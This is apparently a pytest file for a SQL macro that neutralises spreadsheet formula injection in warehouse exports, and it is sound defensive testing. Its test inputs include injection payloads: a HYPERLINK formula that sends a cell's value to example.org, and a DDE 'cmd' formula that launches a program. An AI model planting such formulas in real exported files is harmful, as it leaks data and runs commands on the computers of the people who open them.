"""What leaves the warehouse holds no cell that a spreadsheet would run."""

import duckdb
import pytest
from jinja2 import Environment
from places import ROOT

MACRO = ROOT / "macros/cross_db/safe_cell.sql"


def safe_cell(text):
    macros = Environment().from_string(MACRO.read_text()).module
    with duckdb.connect() as connection:
        (found,) = connection.execute(
            f"select {macros.safe_cell('cell')} from (select $1::varchar as cell)",
            [text],
        ).fetchone()
    return found


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=", "-",
        "＝1+1", "＋1", "－1", "＠SUM(A1)",
        "=HYPERLINK(\"http://example.org?x=\"&A1)", "=cmd|'/C calc'!A0",
    ],
)  # fmt: skip
def test_a_formula_becomes_a_text(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", [None, "", "a=1", "'=1+1", " =1", "1-2", "é", "Home", "12", "\u2212 5"]
)
def test_what_is_no_formula_stays(text):
    assert safe_cell(text) == text
